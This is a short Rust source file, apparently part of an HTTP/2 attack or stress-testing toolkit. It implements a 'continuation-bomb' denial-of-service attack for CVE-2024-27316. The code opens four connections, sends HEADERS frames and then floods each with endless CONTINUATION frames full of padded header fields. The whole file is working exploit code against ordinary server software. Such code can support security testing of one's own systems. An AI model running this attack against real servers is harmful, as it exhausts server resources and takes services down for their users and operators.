//! A header block that never ends (CVE-2024-27316).

use crate::attack::Attack;
use crate::frames::{self, frame, literal};
use crate::raw::flood_all;

const CONNECTIONS: usize = 4;

pub(super) const ATTACK: Attack =
    Attack::new("continuation-bomb", "4 connections with HEADERS and endless CONTINUATION frames", |stage| {
        Box::pin(async move {
            let begin = frame(frames::HEADERS, 0, 1, &frames::call("/a", None));
            let field = literal(b"x-endless", &[b'x'; 1_000]);
            let payload = field.repeat(frames::PAYLOAD_MAX / field.len());
            let more = frame(frames::CONTINUATION, 0, 1, &payload);
            flood_all(&stage, CONNECTIONS, &begin, |_| more.clone()).await
        })
    });
